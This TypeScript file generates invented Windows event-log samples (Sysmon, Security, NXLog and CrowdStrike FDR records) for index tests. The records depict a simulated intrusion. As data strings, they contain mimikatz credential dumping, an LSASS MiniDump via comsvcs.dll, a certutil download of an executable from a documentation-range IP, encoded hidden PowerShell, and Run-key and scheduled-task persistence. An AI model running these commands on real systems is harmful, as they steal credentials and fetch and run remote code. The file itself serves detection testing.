// Small invented samples for the on-disk index tests (hosts, users, GUIDs, hashes, addresses and
// times are made up; addresses are from the documentation ranges). Nothing is copied from
// ../shared. The records follow the compact one-line XmlWinEventLog rendering (Sysmon 1/3/11/13,
// Security 4624/4625/4688), NXLog `im_msvistalog` JSON and CrowdStrike FDR JSON, so that between
// them they fill Endpoint.Processes/Registry/Filesystem, Network_Traffic and Authentication.
import { writeFileSync } from "node:fs";
import { join } from "node:path";

type Pairs = ReadonlyArray<readonly [string, string]>;

const data = (pairs: Pairs): string => pairs.map(([k, v]) => (v === "" ? `<Data Name='${k}'/>` : `<Data Name='${k}'>${v}</Data>`)).join("");

let record = 7100;

function sysmon(host: string, eid: number, utc: string, pairs: Pairs): string {
  const created = `${utc.replace(" ", "T")}1234Z`;
  return (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
    "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>" +
    `<EventID>${eid}</EventID><Version>5</Version><Level>4</Level><Task>${eid}</Task><Opcode>0</Opcode>` +
    `<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='${created}'/><EventRecordID>${record++}</EventRecordID>` +
    "<Correlation/><Execution ProcessID='2316' ThreadID='3188'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel>" +
    `<Computer>${host}</Computer><Security UserID='S-1-5-18'/></System><EventData>${data([["RuleName", "-"], ["UtcTime", utc], ...pairs])}</EventData></Event>`
  );
}

function security(host: string, eid: number, created: string, pairs: Pairs, keywords = "0x8020000000000000"): string {
  return (
    "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>" +
    "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/>" +
    `<EventID>${eid}</EventID><Version>2</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode>` +
    `<Keywords>${keywords}</Keywords><TimeCreated SystemTime='${created}'/><EventRecordID>${record++}</EventRecordID>` +
    "<Correlation/><Execution ProcessID='4' ThreadID='5120'/><Channel>Security</Channel>" +
    `<Computer>${host}</Computer><Security/></System><EventData>${data(pairs)}</EventData></Event>`
  );
}

export const WS = "WS-IDX-01.lab.example";
export const SRV = "SRV-IDX-02.lab.example";

const proc = (guid: string, pid: string, image: string, cmd: string, user: string, parent: string, parentCmd: string, original: string): Pairs => [
  ["ProcessGuid", `{6B1E0C2A-${guid}-6553-0000-000000001A00}`],
  ["ProcessId", pid],
  ["Image", image],
  ["FileVersion", "10.0.19041.1 (WinBuild.160101.0800)"],
  ["Description", "-"],
  ["Product", "-"],
  ["Company", "-"],
  ["OriginalFileName", original],
  ["CommandLine", cmd],
  ["CurrentDirectory", "C:\\Users\\a.kowal\\"],
  ["User", user],
  ["LogonGuid", "{6B1E0C2A-1111-6553-A1B2-0C0000000000}"],
  ["LogonId", "0xc2b1a"],
  ["TerminalSessionId", "1"],
  ["IntegrityLevel", "High"],
  ["Hashes", `SHA256=${guid.repeat(16)},IMPHASH=${guid.repeat(8)}`],
  ["ParentProcessGuid", "{6B1E0C2A-0F00-6553-0000-000000001A00}"],
  ["ParentProcessId", "4012"],
  ["ParentImage", parent],
  ["ParentCommandLine", parentCmd],
];

const net = (pid: string, image: string, user: string, proto: string, src: string, sport: string, dst: string, dport: string): Pairs => [
  ["ProcessGuid", "{6B1E0C2A-3333-6553-0000-000000001A00}"],
  ["ProcessId", pid],
  ["Image", image],
  ["User", user],
  ["Protocol", proto],
  ["Initiated", "true"],
  ["SourceIsIpv6", "false"],
  ["SourceIp", src],
  ["SourceHostname", "-"],
  ["SourcePort", sport],
  ["SourcePortName", "-"],
  ["DestinationIsIpv6", "false"],
  ["DestinationIp", dst],
  ["DestinationHostname", "-"],
  ["DestinationPort", dport],
  ["DestinationPortName", "-"],
];

const fileCreate = (image: string, target: string, created: string): Pairs => [
  ["ProcessGuid", "{6B1E0C2A-4444-6553-0000-000000001A00}"],
  ["ProcessId", "6120"],
  ["Image", image],
  ["TargetFilename", target],
  ["CreationUtcTime", created],
  ["User", "LAB\\a.kowal"],
];

const regSet = (image: string, target: string, details: string): Pairs => [
  ["EventType", "SetValue"],
  ["ProcessGuid", "{6B1E0C2A-5555-6553-0000-000000001A00}"],
  ["ProcessId", "6120"],
  ["Image", image],
  ["TargetObject", target],
  ["Details", details],
  ["User", "LAB\\a.kowal"],
];

const PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD = "C:\\Windows\\System32\\cmd.exe";
const CERTUTIL = "C:\\Windows\\System32\\certutil.exe";

const logon = (user: string, type: string, ip: string, extra: Pairs = []): Pairs => [
  ["SubjectUserSid", "S-1-5-18"],
  ["SubjectUserName", "SRV-IDX-02$"],
  ["SubjectDomainName", "LAB"],
  ["SubjectLogonId", "0x3e7"],
  ["TargetUserSid", "S-1-5-21-2011223344-1122334455-3344556677-1107"],
  ["TargetUserName", user],
  ["TargetDomainName", "LAB"],
  ...extra,
  ["LogonType", type],
  ["LogonProcessName", "NtLmSsp "],
  ["AuthenticationPackageName", "NTLM"],
  ["WorkstationName", "WS-IDX-01"],
  ["ProcessId", "0x0"],
  ["ProcessName", "-"],
  ["IpAddress", ip],
  ["IpPort", "50112"],
];

/** Sysmon on the workstation (newest first, as Splunk returns events). */
export function sysmonWorkstation(): string {
  return [
    sysmon(WS, 13, "2023-11-14 20:04:10.500", regSet(PS, "HKU\\S-1-5-21-2011223344-1122334455-3344556677-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "C:\\Users\\a.kowal\\AppData\\Roaming\\updater.exe")),
    sysmon(WS, 11, "2023-11-14 20:04:02.250", fileCreate(PS, "C:\\Users\\a.kowal\\AppData\\Local\\Temp\\stage2.ps1", "2023-11-14 20:04:02.250")),
    sysmon(WS, 1, "2023-11-14 20:03:30.000", proc("2222", "7344", "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe &quot;sekurlsa::logonpasswords&quot; exit", "LAB\\a.kowal", CMD, "cmd.exe /c C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe")),
    sysmon(WS, 3, "2023-11-14 20:02:45.125", net("6120", PS, "LAB\\a.kowal", "tcp", "10.20.0.21", "50433", "203.0.113.10", "443")),
    sysmon(WS, 3, "2023-11-14 20:02:44.000", net("1240", "C:\\Windows\\System32\\svchost.exe", "NT AUTHORITY\\NETWORK SERVICE", "udp", "10.20.0.21", "61021", "10.20.0.53", "53")),
    sysmon(WS, 1, "2023-11-14 20:01:00.750", proc("1F1F", "6644", CMD, "cmd.exe /c whoami /all &amp; ipconfig", "LAB\\a.kowal", PS, "powershell.exe -nop", "Cmd.Exe")),
    sysmon(WS, 1, "2023-11-14 20:00:30.000", proc("0E0E", "6120", PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==", "LAB\\a.kowal", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "PowerShell.EXE")),
  ].join("\n") + "\n";
}

/** Sysmon on the server. */
export function sysmonServer(): string {
  return [
    sysmon(SRV, 3, "2023-11-14 21:15:01.000", net("5012", CERTUTIL, "LAB\\svc_deploy", "tcp", "10.20.0.32", "49811", "203.0.113.20", "80")),
    sysmon(SRV, 13, "2023-11-14 21:14:40.000", regSet("C:\\Windows\\System32\\services.exe", "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc\\ImagePath", "C:\\Windows\\Temp\\a.exe")),
    sysmon(SRV, 11, "2023-11-14 21:14:31.000", fileCreate(CERTUTIL, "C:\\Windows\\Temp\\a.exe", "2023-11-14 21:14:31.000")),
    sysmon(SRV, 1, "2023-11-14 21:14:30.000", proc("3A3A", "5012", CERTUTIL, "certutil.exe -urlcache -f http://203.0.113.20/a.exe C:\\Windows\\Temp\\a.exe", "LAB\\svc_deploy", CMD, "cmd.exe /c deploy.bat", "CertUtil.exe")),
  ].join("\n") + "\n";
}

/** Security on the server: logons, failed logons and a 4688. */
export function securityServer(): string {
  return [
    security(SRV, 4688, "2023-11-14T21:20:00.1234567Z", [
      ["SubjectUserSid", "S-1-5-21-2011223344-1122334455-3344556677-1107"], ["SubjectUserName", "a.kowal"], ["SubjectDomainName", "LAB"],
      ["SubjectLogonId", "0x5d1f0"], ["NewProcessId", "0x1a2c"], ["NewProcessName", "C:\\Windows\\System32\\net.exe"], ["TokenElevationType", "%%1936"],
      ["ProcessId", "0x13b8"], ["CommandLine", "net  user /domain"], ["TargetUserSid", "S-1-0-0"], ["TargetUserName", "-"], ["TargetDomainName", "-"],
      ["TargetLogonId", "0x0"], ["ParentProcessName", CMD], ["MandatoryLabel", "S-1-16-12288"],
    ]),
    security(SRV, 4625, "2023-11-14T21:19:02.5550000Z", [
      ...logon("administrator", "3", "10.20.0.21", [["Status", "0xc000006d"], ["FailureReason", "%%2313"], ["SubStatus", "0xc000006a"]]),
    ], "0x8010000000000000"),
    security(SRV, 4625, "2023-11-14T21:19:01.4440000Z", [
      ...logon("admin", "3", "10.20.0.21", [["Status", "0xc000006d"], ["FailureReason", "%%2313"], ["SubStatus", "0xc0000064"]]),
    ], "0x8010000000000000"),
    security(SRV, 4624, "2023-11-14T21:18:30.0000000Z", logon("a.kowal", "3", "10.20.0.21", [["TargetLogonId", "0x5d1f0"]])),
    security(SRV, 4624, "2023-11-14T19:02:11.0000000Z", logon("svc_deploy", "5", "-", [["TargetLogonId", "0x41aa0"]])),
  ].join("\n") + "\n";
}

/** NXLog JSON from a third host: a Sysmon process creation and a 4624; one line is cut short. */
export function nxlogLines(): string {
  const base = {
    Hostname: "WS-IDX-03.lab.example", Keywords: -9223372036854775808, SeverityValue: 2, Severity: "INFO", Version: 5, OpcodeValue: 0,
    ProcessID: 2716, ThreadID: 3340, SourceModuleName: "eventlog", SourceModuleType: "im_msvistalog",
  };
  const sysmonCreate = {
    ...base, EventTime: "2023-11-14 18:30:05", EventType: "INFO", EventID: 1, SourceName: "Microsoft-Windows-Sysmon",
    ProviderGuid: "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", Task: 1, RecordNumber: 90211, Channel: "Microsoft-Windows-Sysmon/Operational",
    Domain: "NT AUTHORITY", AccountName: "SYSTEM", UserID: "S-1-5-18", AccountType: "User", Category: "Process Create (rule: ProcessCreate)",
    Message: "Process Create:\r\nRuleName: -\r\nImage: C:\\Windows\\System32\\rundll32.exe",
    RuleName: "-", UtcTime: "2023-11-14 18:30:05.321", ProcessGuid: "{0C8E5A13-6F43-6553-4B02-000000000D00}", ProcessId: "3312",
    Image: "C:\\Windows\\System32\\rundll32.exe", FileVersion: "10.0.19041.1 (WinBuild.160101.0800)", Description: "Windows host process (Rundll32)",
    Product: "Microsoft® Windows® Operating System", Company: "Microsoft Corporation", OriginalFileName: "RUNDLL32.EXE",
    CommandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full",
    CurrentDirectory: "C:\\Windows\\system32\\", User: "LAB\\b.nowak", LogonGuid: "{0C8E5A13-6A10-6553-9E7C-240000000000}", LogonId: "0x247c9e",
    TerminalSessionId: "2", IntegrityLevel: "High", Hashes: "SHA256=8F3D6A1C4E7B0D9F2A5C8E1B4D7F0A3C6E9B2D5F8A1C4E7B0D3F6A9C2E5B8D1F",
    ParentProcessGuid: "{0C8E5A13-6A12-6553-6D01-000000000D00}", ParentProcessId: "6388", ParentImage: CMD, ParentCommandLine: "cmd.exe",
  };
  const logonJson = {
    ...base, Version: 2, EventTime: "2023-11-14 18:29:00", "@timestamp": "2023-11-14T18:29:00.120Z", EventType: "AUDIT_SUCCESS", EventID: 4624,
    SourceName: "Microsoft-Windows-Security-Auditing", ProviderGuid: "{54849625-5478-4994-A5BA-3E3B0328C30D}", Task: 12544, RecordNumber: 551203,
    Channel: "Security", Category: "Logon", Message: "An account was successfully logged on.",
    SubjectUserSid: "S-1-0-0", SubjectUserName: "-", SubjectDomainName: "-", SubjectLogonId: "0x0", TargetUserSid: "S-1-5-21-2011223344-1122334455-3344556677-1110",
    TargetUserName: "b.nowak", TargetDomainName: "LAB", TargetLogonId: "0x247c9e", LogonType: "10", LogonProcessName: "User32 ",
    AuthenticationPackageName: "Negotiate", WorkstationName: "WS-IDX-03", IpAddress: "10.20.0.40", IpPort: "0",
  };
  return `${JSON.stringify(sysmonCreate)}\n{"EventTime":"2023-11-14 18:31:00","EventID":\n${JSON.stringify(logonJson)}\n`;
}

/** One CrowdStrike FDR ProcessRollup2 (JSON lines). */
export function fdrLines(): string {
  return `${JSON.stringify({
    ConfigBuild: "1007.3.0017805.1", event_platform: "Win", event_simpleName: "ProcessRollup2", name: "ProcessRollup2V19",
    aid: "0a1b2c3d4e5f60718293a4b5c6d7e8f9", aip: "198.51.100.77", cid: "f0e1d2c3b4a5968778695a4b3c2d1e0f", id: "7b2e4c1a-5d3f-4e6a-9b8c-0d1e2f3a4b5c",
    timestamp: "1699990000412", ProcessStartTime: "1699990000.301", CommandLine: "C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding",
    ImageFileName: "\\Device\\HarddiskVolume3\\Windows\\System32\\wbem\\scrcons.exe", ParentBaseFileName: "svchost.exe",
    ParentProcessId: "30812549117", SourceProcessId: "30812549117", TargetProcessId: "31254790338", RawProcessId: "5316",
    UserSid: "S-1-5-18", AuthenticationId: "999", IntegrityLevel: "16384", MD5HashData: "00112233445566778899aabbccddeeff",
    SHA256HashData: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff",
  })}\n`;
}

/** Writes the sample set into `dir`; returns the absolute file paths in ingest (sorted) order. */
export function writeSamples(dir: string): string[] {
  const files: Record<string, string> = {
    "a-sysmon-ws01.xml": sysmonWorkstation(),
    "b-sysmon-srv02.xml": sysmonServer(),
    "c-security-srv02.xml": securityServer(),
    "d-nxlog-ws03.json": nxlogLines(),
    "e-fdr.json": fdrLines(),
  };
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
  return Object.keys(files).sort().map((n) => join(dir, n));
}

/** A file added later: one more Sysmon process creation on the workstation. */
export function lateSysmon(): string {
  return `${sysmon(WS, 1, "2023-11-14 22:00:00.000", proc("4B4B", "7720", "C:\\Windows\\System32\\schtasks.exe", "schtasks /create /tn Upd /tr C:\\Users\\a.kowal\\AppData\\Roaming\\updater.exe /sc onlogon", "LAB\\a.kowal", CMD, "cmd.exe", "schtasks.exe"))}\n`;
}
